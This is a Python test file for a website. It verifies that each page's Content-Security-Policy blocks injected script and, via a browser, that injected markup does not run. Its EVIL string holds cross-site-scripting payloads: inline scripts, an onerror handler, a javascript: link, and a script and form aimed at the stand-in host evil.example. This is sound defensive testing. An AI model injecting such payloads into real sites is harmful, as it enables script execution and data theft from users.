"""The content security policy: a script that got into a page does not run, what belongs to the page does."""

import re

import pytest

from demonstration import pages

EVIL = """<script>window.harmed = "inline"</script><img src="nowhere.png" onerror="window.harmed = 'handler'">
<a id="trap" href="javascript:window.harmed='link'">x</a><script src="https://evil.example/x.js"></script>
<form id="leak" action="https://evil.example/"><input name="a" value="b"></form><iframe srcdoc="<script>parent.harmed='frame'</script>"></iframe>"""


def policy(html: str) -> str:
    return re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', html)[1]


def test_every_page_forbids_inline_scripts_and_other_hosts(site):
    for file in pages(site):
        html = file.read_text(encoding="utf-8")
        assert html.index("Content-Security-Policy") < html.index("<link") < html.index("<script"), file
        rules = policy(html)
        assert "default-src 'none'" in rules and "unsafe" not in rules and "http" not in rules and "*" not in rules
        # No script of the page needs an exception: each has an address, or is data.
        for attributes in re.findall(r"<script([^>]*)>", html):
            assert "src=" in attributes or 'type="application/json"' in attributes, f"{file}: {attributes}"
        assert not re.search(r"\son\w+\s*=|\sstyle\s*=|javascript:", html), file


@pytest.mark.parametrize("way", ["file", "localhost"])
def test_an_injected_script_does_not_run(browser, site, served, tmp_path, way):
    context = browser.new_context()
    page = context.new_page()
    asked = []
    page.route("https://evil.example/**", lambda route: (asked.append(route.request.url), route.abort()))
    name = "machines/lever-350-worksheets.html"
    html = (site / name).read_text(encoding="utf-8").replace("<h1>", EVIL + "<h1>", 1)
    if way == "file":
        injected = site / "machines" / "injected-for-a-test.html"
        injected.write_text(html, encoding="utf-8")
        page.goto(injected.as_uri())
        injected.unlink()
    else:
        page.route(f"**/{name}", lambda route: route.fulfill(body=html, content_type="text/html"))
        page.goto(f"{served}/{name}")
    page.locator("#trap").click()
    page.wait_for_timeout(200)
    assert page.evaluate("window.harmed") is None
    page.get_by_role("searchbox").fill("grandfather")
    page.locator("#sw-found a").first.wait_for()
    assert page.locator("#choose li").count() > 2
    page.evaluate("document.getElementById('leak').submit()")
    page.wait_for_timeout(200)
    assert not asked
    context.close()


def test_the_same_script_runs_without_the_policy(browser, site, tmp_path):
    # Shows that the test above can fail.
    html = (
        (site / "index.html")
        .read_text(encoding="utf-8")
        .replace("Content-Security-Policy", "Nothing")
        .replace("<h1>", EVIL + "<h1>", 1)
    )
    (tmp_path / "index.html").write_text(html, encoding="utf-8")
    context = browser.new_context()
    page = context.new_page()
    asked = []
    page.route("https://evil.example/**", lambda route: (asked.append(route.request.url), route.abort()))
    page.goto((tmp_path / "index.html").as_uri())
    page.wait_for_timeout(100)
    assert page.evaluate("window.harmed") and asked
    context.close()
